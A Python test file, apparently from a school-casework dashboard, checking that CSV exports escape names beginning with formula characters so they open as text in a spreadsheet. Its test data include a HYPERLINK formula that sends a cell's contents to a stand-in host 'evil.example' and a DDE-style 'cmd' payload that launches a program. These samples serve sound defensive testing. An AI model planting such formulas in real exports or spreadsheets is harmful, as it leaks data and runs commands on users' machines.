"""The dashboard's CSVs open in a spreadsheet as text, never as a formula: a school's or an officer's
name that starts with = + - @ (or a tab or carriage return before one) would otherwise run as one in
the coordinator's spreadsheet (a link that sends the sheet's cells elsewhere, a command)."""

from __future__ import annotations

import csv
import io

from sqlalchemy import update

from casework import schools
from casework.schools import NewSchool
from storage.models import Officer, WebRole
from tests.web.conftest import NOW, Site
from tests.web.test_http import signed_in
from web.csv_export import csv_text, spreadsheet_cell

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


async def test_names_that_look_like_formulas_are_written_as_text(site: Site) -> None:
    async with site.db.transaction() as session:
        await schools.add_school(session, NewSchool.checked(FORMULA, "EVL"), NOW)
        await session.execute(
            update(Officer).where(Officer.display_name == "Cst. Maple").values(display_name="@SUM(1+1)")
        )
    client = await signed_in(site, "ann@example.org", WebRole.COORDINATOR, [])
    rows = list(csv.reader(io.StringIO((await client.get("/coverage.csv?section=0")).text)))
    (big,) = [row for row in rows if row[0] == "BIG"]
    (evil,) = [row for row in rows if row[0] == "EVL"]
    assert evil[1] == "'" + FORMULA
    assert big[3] == "'@SUM(1+1)"
    assert big[1] == "BIG Secondary"  # control: an ordinary name is left as it is
    # The page itself shows the names as recorded (only the CSV is for a spreadsheet).
    assert "@SUM(1+1)" in (await client.get("/coverage")).text


def test_every_formula_start_is_neutralised_and_numbers_are_kept() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r", "\t=", "\r@"):
        assert spreadsheet_cell(start + "cmd|' /C calc'!A0").startswith("'"), repr(start)
    for number in ("12", "-3", "+2", "0", "-0.5", "+12%", "≥12", "<5", "x", "2025-03"):
        assert spreadsheet_cell(number) == number
    assert spreadsheet_cell("") == ""
    text = csv_text(["school", "=name"], [["A", "-1"], ["B", "-1+2"]])
    assert list(csv.reader(io.StringIO(text))) == [["school", "'=name"], ["A", "-1"], ["B", "'-1+2"]]
